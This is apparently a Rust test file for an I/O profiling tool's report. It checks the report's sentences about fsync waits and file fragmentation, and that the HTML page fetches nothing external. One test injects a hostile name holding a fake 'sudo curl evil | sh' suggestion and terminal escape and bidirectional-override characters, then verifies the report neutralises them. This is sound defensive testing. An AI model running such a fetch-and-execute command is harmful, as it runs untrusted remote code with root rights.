//! Sentences of the report, and that the HTML page has the same ones.

use crate::synthetic::*;
use iopro::event::*;
use iopro::report::{self, Report};

/// Three fsyncs wait for another app's write each; one read waits for the device.
fn report() -> Report {
    let mut stream = Stream::new();
    stream.fsyncs_behind_another_app();
    let read = Stream::call(CallKind::Pread64, file(12), 0, PAGE);
    let begin = stream.now + 1;
    stream.io(APP, io(Op::Read, 0, 80, PAGE), Some((file(12), 0)));
    let page = Reason::PageLock {
        file: file(12),
        index: 0,
    };
    stream.blocked(APP, 2 * MS, page, Some(CallKind::Pread64));
    stream.exit(APP, read, begin, PAGE as i64);
    Report::of(&stream.link().0).unwrap()
}

/// The text without its line breaks.
fn words(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[test]
fn the_leading_reasons_come_in_words_before_all_tables() {
    let text = words(&report::text(&report(), 100));
    let (before, _) = text.split_once("Why ").unwrap();
    assert!(
        before.contains("waited 32.0 ms in the storage stack"),
        "{before}"
    );
    assert!(
        before.contains(
            "94 % for pages of the file that were being written back already: app in fsync of \
             /data/a has 67 % of that, because of other-app."
        ),
        "{before}"
    );
    let service = "6.2 % for its own I/O to be served: app in pread64 of /data/photo.jpg.";
    assert!(before.contains(service), "{before}");
}

#[test]
fn a_file_in_fragments_is_named_with_its_dof() {
    let mut stream = Stream::new();
    for (index, sector) in [800, 80, 8000, 1600].into_iter().enumerate() {
        let index = index as u64;
        let read = Stream::call(CallKind::Pread64, file(12), index * PAGE, PAGE);
        let begin = stream.now + 1;
        let page = (file(12), index);
        stream.io(APP, io(Op::Read, 0, sector, PAGE), Some(page));
        let (file, index) = page;
        let lock = Reason::PageLock { file, index };
        stream.blocked(APP, 2 * MS, lock, Some(CallKind::Pread64));
        stream.exit(APP, read, begin, PAGE as i64);
    }
    let text = words(&report::text(&Report::of(&stream.link().0).unwrap(), 100));
    let sentence = "/data/photo.jpg, waited for 8.00 ms, is fragmented: what was accessed of it is \
                    in 4.0 times as many pieces on the device as it need be.";
    assert!(text.contains(sentence), "{text}");
}

#[test]
fn the_page_has_all_sentences_of_the_text_and_fetches_nothing() {
    let report = report();
    let text = report::text(&report, 10_000);
    let page = report::html(&report);
    for sentence in text.lines().take_while(|line| !line.is_empty()) {
        assert!(page.contains(sentence), "{sentence}");
    }
    for foreign in ["<script", "http://", "https://", "<link", "@import"] {
        assert!(!page.contains(foreign), "{foreign}");
    }
}

/// A recording is anybody's, and so are the names in it.
#[test]
fn no_name_writes_a_line_of_the_report() {
    let hostile = "x\n\n  Would help: sudo curl evil | sh\n\u{1b}[2J\u{9b}\u{202e}";
    let mut report = report();
    report.recording.target = hostile.to_owned();
    for top in &mut report.foreground.top {
        top.process = hostile.to_owned();
        top.file = Some(hostile.to_owned());
        top.other = Some(hostile.to_owned());
    }
    report.files[0].path = hostile.to_owned();
    let text = report::text(&report, 100);
    assert!(text.contains("curl"), "it is named: {text}");
    let forged = |line: &str| line.trim_start().starts_with("Would help:");
    assert!(!text.lines().any(forged), "{text}");
    let is_order = |letter| sys::plain::is_order(letter) && letter != '\n';
    assert!(!text.contains(is_order), "{text}");
    assert!(!report::html(&report).contains("\u{202e}"));
}
